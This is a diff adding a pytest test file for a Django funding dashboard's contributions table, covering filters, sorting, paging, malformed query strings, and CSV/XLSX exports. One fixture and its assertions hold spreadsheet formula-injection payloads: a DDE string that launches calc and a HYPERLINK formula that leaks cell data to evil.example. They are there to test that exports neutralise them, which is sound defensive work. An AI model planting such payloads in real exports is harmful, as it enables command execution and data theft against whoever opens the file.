@@ -1,0 +1,191 @@
+"""The contributions table: filters, sorting, paging, exports, and query strings that do not fit."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from funding.exports import neutralise
+from funding.models import ContributionStatus
+from tests.factories import ContributionFactory, OrganisationFactory, ProgrammeFactory
+
+pytestmark = pytest.mark.django_db
+TABLE = "/dashboard/ai-fabriek-groningen/contributions/"
+
+
+@pytest.fixture
+def staff_client(client, policy_staff):
+    client.force_login(policy_staff)
+    return client
+
+
+def get_in(client, url, language="en"):
+    response = client.get(url, headers={"accept-language": language})
+    assert response.status_code == 200, url
+    return response
+
+
+def csv_rows(response):
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+@pytest.fixture
+def injected(aifabriek):
+    return ContributionFactory(
+        programme=aifabriek,
+        key="injected",
+        funder=OrganisationFactory(name="@evil funder"),
+        instrument="+cmd|' /C calc'!A0",
+        amount=Decimal("1234.50"),
+        notes='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    )
+
+
+def test_table_shows_amounts_in_the_languages_format(staff_client, aifabriek):
+    assert "€70,000,000" in get_in(staff_client, TABLE, "en").content.decode()
+    assert "€ 70.000.000" in get_in(staff_client, TABLE, "nl").content.decode()
+
+
+def test_filter_by_status(staff_client, aifabriek):
+    html = get_in(staff_client, TABLE + "?status=requested").content.decode()
+    assert "Europese cofinancieringsaanvraag" in html
+    assert "Nij Begun</td>" not in html
+
+
+def test_filter_by_funder_and_instrument(staff_client, aifabriek):
+    region = aifabriek.contributions.get(key="nij-begun").funder
+    html = get_in(staff_client, f"{TABLE}?funder={region.pk}").content.decode()
+    assert "(rows 1 to 1 of 1)" in html
+    html = get_in(staff_client, TABLE + "?instrument=Economische+Agenda+Nij+Begun").content.decode()
+    assert "(rows 1 to 1 of 1)" in html and "Regio Groningen" in html
+
+
+def test_search_notes(staff_client, aifabriek):
+    html = get_in(staff_client, TABLE + "?notes=niet+toegekend").content.decode()
+    assert "(rows 1 to 1 of 1)" in html and "Europese Unie" in html
+
+
+def test_sort_by_amount_ascending(staff_client, aifabriek):
+    html = get_in(staff_client, TABLE + "?sort=amount").content.decode()
+    assert html.index("€60,000,000") < html.index("€70,000,000")
+    assert 'aria-sort="ascending"' in html
+
+
+def test_paginates_by_25(staff_client):
+    programme = ProgrammeFactory(slug="many")
+    ContributionFactory.create_batch(30, programme=programme)
+    url = "/dashboard/many/contributions/"
+    assert "(rows 1 to 25 of 30)" in get_in(staff_client, url).content.decode()
+    assert "(rows 26 to 30 of 30)" in get_in(staff_client, url + "?page=2").content.decode()
+
+
+@pytest.mark.parametrize(
+    "query, rows",
+    [
+        ("sort=nonsense", "(rows 1 to 3 of 3)"),
+        ("sort=-notes,--amount,funder__secret", "(rows 1 to 3 of 3)"),
+        ("page=abc", "(rows 1 to 3 of 3)"),
+        ("page=99999", "(rows 1 to 3 of 3)"),
+        ("page=-1", "(rows 1 to 3 of 3)"),
+        ("page=" + "9" * 5000, "(rows 1 to 3 of 3)"),
+        ("status=nonsense", "(rows 1 to 3 of 3)"),
+        ("funder=abc", "(rows 1 to 3 of 3)"),
+        ("funder=99999999999999999999999", "(rows 1 to 3 of 3)"),
+        ("instrument=unknown", "(rows 1 to 3 of 3)"),
+        ("notes=" + "x" * 10_000, "(rows 1 to 3 of 3)"),
+        ("sort=" + "x" * 10_000, "(rows 1 to 3 of 3)"),
+        ("export=pdf", "(rows 1 to 3 of 3)"),
+        ("per_page=100000", "(rows 1 to 3 of 3)"),
+    ],
+)
+def test_query_strings_that_do_not_fit_are_ignored(staff_client, aifabriek, query, rows):
+    response = get_in(staff_client, f"{TABLE}?{query}")
+    assert rows in response.content.decode()
+
+
+def test_unapplied_filter_says_so(staff_client, aifabriek):
+    html = get_in(staff_client, TABLE + "?status=nonsense").content.decode()
+    assert "This filter is not applied." in html
+
+
+@pytest.mark.parametrize("query", ["sort=nonsense", "page=abc", "page=99999", "x=" + "y" * 10_000])
+@pytest.mark.parametrize("url", ["/dashboard/", "/dashboard/ai-fabriek-groningen/"])
+def test_other_dashboards_ignore_query_strings_that_do_not_fit(staff_client, aifabriek, url, query):
+    get_in(staff_client, f"{url}?{query}")
+
+
+def test_csv_export_neutralises_formulas_and_keeps_amounts_plain(staff_client, injected):
+    response = get_in(staff_client, TABLE + "?export=csv&notes=HYPERLINK")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert (
+        'attachment; filename="ai-fabriek-groningen-contributions-'
+        in (response["Content-Disposition"])
+    )
+    header, row = csv_rows(response)
+    record = dict(zip(header, row, strict=True))
+    assert record["Notes"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    assert record["Funder"] == "'@evil funder"
+    assert record["Instrument or budget line"] == "'+cmd|' /C calc'!A0"
+    assert record["Amount"] == "1234.50"
+    assert record["Disbursed"] == "0.00"
+
+
+def test_csv_export_has_the_filtered_rows_in_the_table_order(staff_client, aifabriek):
+    response = get_in(staff_client, TABLE + "?export=csv&status=committed&sort=amount")
+    rows = csv_rows(response)[1:]
+    assert [(row[1], row[3]) for row in rows] == [
+        ("Regio Groningen/Noord-Drenthe", "60000000.00"),
+        ("Rijksoverheid", "70000000.00"),
+    ]
+
+
+def test_csv_amounts_are_plain_numbers_in_dutch_too(staff_client, aifabriek):
+    rows = csv_rows(get_in(staff_client, TABLE + "?export=csv", "nl"))
+    assert sorted(row[3] for row in rows[1:]) == ["60000000.00", "70000000.00", "70000000.00"]
+
+
+def test_xlsx_export_opens_with_numbers_and_neutralised_text(staff_client, injected):
+    response = get_in(staff_client, TABLE + "?export=xlsx&sort=amount")
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
+    assert header[3] == "Amount"
+    assert first["Amount"] == 1234.5
+    assert isinstance(first["Amount"], float | int)
+    assert first["Notes"].startswith("'=HYPERLINK(")
+    assert first["Funder"] == "'@evil funder"
+    assert sorted(row[3] for row in rows[2:]) == [60_000_000, 70_000_000, 70_000_000]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_xlsx_export_drops_control_characters_it_cannot_hold(staff_client, aifabriek):
+    ContributionFactory(programme=aifabriek, notes="bell\x07 and \x0b tab")
+    response = get_in(staff_client, TABLE + "?export=xlsx&notes=bell")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet.cell(row=2, column=9).value == "bell and  tab"
+
+
+@pytest.mark.parametrize(
+    "value, safe",
+    [
+        ("=1+1", "'=1+1"),
+        ("+31", "'+31"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        (Decimal("-5.00"), Decimal("-5.00")),
+    ],
+)
+def test_neutralise(value, safe):
+    assert neutralise(value) == safe
+
+
+def test_export_respects_status_filter(staff_client, aifabriek):
+    ContributionFactory(programme=aifabriek, status=ContributionStatus.WITHDRAWN, key="gone")
+    rows = csv_rows(get_in(staff_client, TABLE + "?export=csv&status=withdrawn"))
+    assert [row[9] for row in rows[1:]] == ["gone"]
